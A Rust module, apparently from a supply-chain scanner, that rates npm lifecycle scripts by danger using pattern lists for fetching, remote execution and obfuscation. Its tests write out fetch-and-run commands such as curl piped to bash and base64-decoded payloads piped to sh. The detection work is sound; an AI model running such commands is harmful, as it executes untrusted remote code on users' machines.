//! Commands that a package manager runs by itself.

/// Their names.
pub(super) const NAMES: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
    "prepublish",
    "prepack",
    "dependencies",
];

/// What a command does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Danger {
    /// One of the tools that everybody runs there.
    Usual,
    /// Something of the author's.
    Own,
    /// It fetches something from the network.
    Fetches,
    /// It runs what it fetches, or what it hides.
    RunsRemote,
}

/// Marks of commands: what fetches, what runs, what hides, and what everybody runs.
const FETCH: &[&str] = &[
    "curl ",
    "wget ",
    "http://",
    "https://",
    "nc ",
    "ncat ",
    "invoke-webrequest",
    "iwr ",
    "ftp ",
    "scp ",
    "/dev/tcp/",
    "fetch(",
    "http.get",
    "https.get",
    "nslookup ",
    "dig ",
];
const RUN: &[&str] = &[
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| node",
    "|node",
    "| python",
    "|python",
    "| zsh",
    "| sudo",
    "$(curl",
    "$(wget",
    "`curl",
    "`wget",
    "<(curl",
    "<(wget",
    "eval ",
    "eval(",
    "bash -c",
    "sh -c",
    "chmod +x",
    "/dev/tcp/",
    "nc ",
    "iex",
    "; sh ",
    "&& sh ",
    "&& bash ",
    "; bash ",
    "&& node ",
    "child_process",
];
const HIDE: &[&str] = &[
    "base64 -d",
    "base64 --decode",
    "base64 -D",
    "atob(",
    "'base64'",
    "\"base64\"",
    "fromcharcode",
    "\\x",
    "xxd -r",
    "-enc ",
    "-encodedcommand",
];
const USUAL: &[&str] = &[
    "husky",
    "husky install",
    "lefthook install",
    "simple-git-hooks",
    "prisma generate",
    "patch-package",
    "is-ci || husky",
    "is-ci || husky install",
    "husky || true",
    "nuxt prepare",
    "nuxi prepare",
    "svelte-kit sync",
    "electron-builder install-app-deps",
    "fumadocs-mdx",
    "ts-patch install -s",
    "npm run build",
    "pnpm build",
    "pnpm run build",
    "yarn build",
    "tsc",
];

/// Judges a command.
pub(super) fn danger(command: &str) -> Danger {
    let lower = command.to_lowercase();
    let has = |list: &[&str]| list.iter().any(|it| lower.contains(&it.to_lowercase()));
    let inline = ["node -e", "node --eval", "node -p", "python -c", "python3 -c", "perl -e"]
        .iter()
        .any(|it| lower.contains(it));
    let remote =
        ["npx http", "npm i http", "npm install http", "npx git+"].iter().any(|it| lower.contains(it));
    match (has(FETCH), has(RUN) || inline) {
        (true, true) => Danger::RunsRemote,
        _ if has(HIDE) && (inline || has(RUN)) || remote => Danger::RunsRemote,
        (true, false) => Danger::Fetches,
        _ if lower.split("&&").all(|it| USUAL.contains(&it.trim())) => Danger::Usual,
        _ => Danger::Own,
    }
}

#[cfg(test)]
mod tests {
    use super::{Danger, danger};

    #[test]
    fn commands_are_told_apart() {
        for (command, expected) in [
            ("husky", Danger::Usual),
            ("prisma generate && husky", Danger::Usual),
            ("node scripts/setup.js", Danger::Own),
            ("curl -o data.json https://example.com/data.json", Danger::Fetches),
            ("curl -s https://example.com/x.sh | bash", Danger::RunsRemote),
            ("node -e \"require('https').get('https://example.com')\"", Danger::RunsRemote),
            ("bash -c \"$(wget -qO- http://example.com)\"", Danger::RunsRemote),
            ("echo Y3VybA== | base64 -d | sh", Danger::RunsRemote),
            ("node -e \"eval(Buffer.from('aa','base64').toString())\"", Danger::RunsRemote),
        ] {
            assert_eq!(danger(command), expected, "{command}");
        }
    }
}
